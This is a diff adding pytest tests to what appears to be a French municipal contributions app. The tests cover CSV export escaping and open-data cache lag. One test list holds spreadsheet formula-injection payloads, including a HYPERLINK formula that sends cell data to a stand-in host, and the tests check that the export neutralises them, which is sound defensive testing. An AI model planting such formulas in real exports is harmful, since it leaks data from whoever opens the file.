@@ -4,11 +4,13 @@ import csv
 import io
 import json
 import threading
+import time
 
 import pytest
 from sqlalchemy import select, update
 
 from revital.communes.models import Commune
+from revital.contributions import services
 from revital.contributions.models import Contribution, ModerationDecision, Support
 from tests.conftest import MAIN, PERSONAS, csrf_token, get, make_client, post, sign_in_as, text_of
 
@@ -259,6 +261,68 @@ def test_csv_opens_in_a_french_spreadsheet(client, db):
     assert len(rows) == 1 + 9
     titles = [row[6] for row in rows[1:]]
     assert "Plus de médecin depuis 2013" in titles and "Un marché de producteurs le samedi" not in titles
+
+
+def test_csv_content_type_is_said_once(client):
+    response = get(client, f"/api/communes/{MAIN}/contributions.csv")
+    assert response.headers["content-type"] == "text/csv; charset=utf-8"
+
+
+FORMULAS = ['=HYPERLINK("http://x/?"&A1,"Cliquez")', "+33 cmd", "-2+3", "@SUM(A1)", "\tTAB", "\rCR"]
+
+
+def test_csv_neutralises_formulas_in_every_text_column(client, db):
+    """OWASP CSV injection: a leading ' in every text cell that a spreadsheet would run."""
+    with db.transaction() as session:
+        session.execute(update(Commune).where(Commune.slug == MAIN)
+                        .values(categories=json.dumps({"mobilite": FORMULAS[0]}, ensure_ascii=False)))
+    ids = {}
+    for i, formula in enumerate(FORMULAS):
+        ids[formula] = add(db, title=formula, body=formula, author_name=formula)
+        with db.transaction() as session:
+            session.execute(update(Contribution).where(Contribution.id == ids[formula]).values(place_name=formula))
+    response = get(client, f"/api/communes/{MAIN}/contributions.csv")
+    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline=""), delimiter=";"))
+    by_id = {int(row["id"]): row for row in rows}
+    numeric = {"id", "longitude", "latitude", "supports"}
+    for formula, cid in ids.items():
+        row = by_id[cid]
+        for column in ("title", "text", "author", "place"):
+            assert row[column] == "'" + formula, column
+        assert row["category_label"] == "'" + FORMULAS[0]
+        for column, value in row.items():
+            if column not in numeric:
+                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), column
+        assert float(row["longitude"]) == 3.5641 and row["supports"] == "0"
+    plain = next(row for row in rows if row["title"] == "La boulangerie a fermé")
+    assert plain["title"] == "La boulangerie a fermé"  # nothing else changes
+
+
+def test_support_counts_in_open_data_lag_a_minute_at_most(client, db, monkeypatch):
+    cid = next(f["id"] for f in get(client, f"/api/communes/{MAIN}/contributions.geojson?details=1").json()["features"]
+               if f["properties"]["title"] == "La boulangerie a fermé")
+    csv_url = f"/api/communes/{MAIN}/contributions.csv"
+    before = get(client, csv_url)
+    assert int(before.headers["cache-control"].split("max-age=")[1]) <= 30
+    assert post(client, f"{LIST}/{cid}/soutenir").status_code == 303
+    now = time.time()
+    monkeypatch.setattr("revital.contributions.services.time.time", lambda: now + services.SUPPORTS_LAG)
+    after = get(client, csv_url, headers={"If-None-Match": before.headers["etag"]})
+    assert after.status_code == 200
+    row = next(r for r in csv.DictReader(io.StringIO(after.content.decode("utf-8-sig")), delimiter=";") if int(r["id"]) == cid)
+    assert row["supports"] == "15"
+    details = get(client, f"/api/communes/{MAIN}/contributions.geojson?details=1").json()["features"]
+    assert next(f for f in details if f["id"] == cid)["properties"]["supports"] == 15
+
+
+def test_open_data_version_moves_every_lag_period():
+    from types import SimpleNamespace
+    from datetime import datetime, UTC
+
+    commune = SimpleNamespace(id=1, contributions_version=3, created_at=datetime(2026, 1, 1, tzinfo=UTC))
+    lag = services.SUPPORTS_LAG
+    assert services.open_data_version(commune, 10 * lag) == services.open_data_version(commune, 11 * lag - 1)
+    assert services.open_data_version(commune, 10 * lag) != services.open_data_version(commune, 11 * lag)
 
 
 def test_no_personal_data_in_public_outputs(client, db):
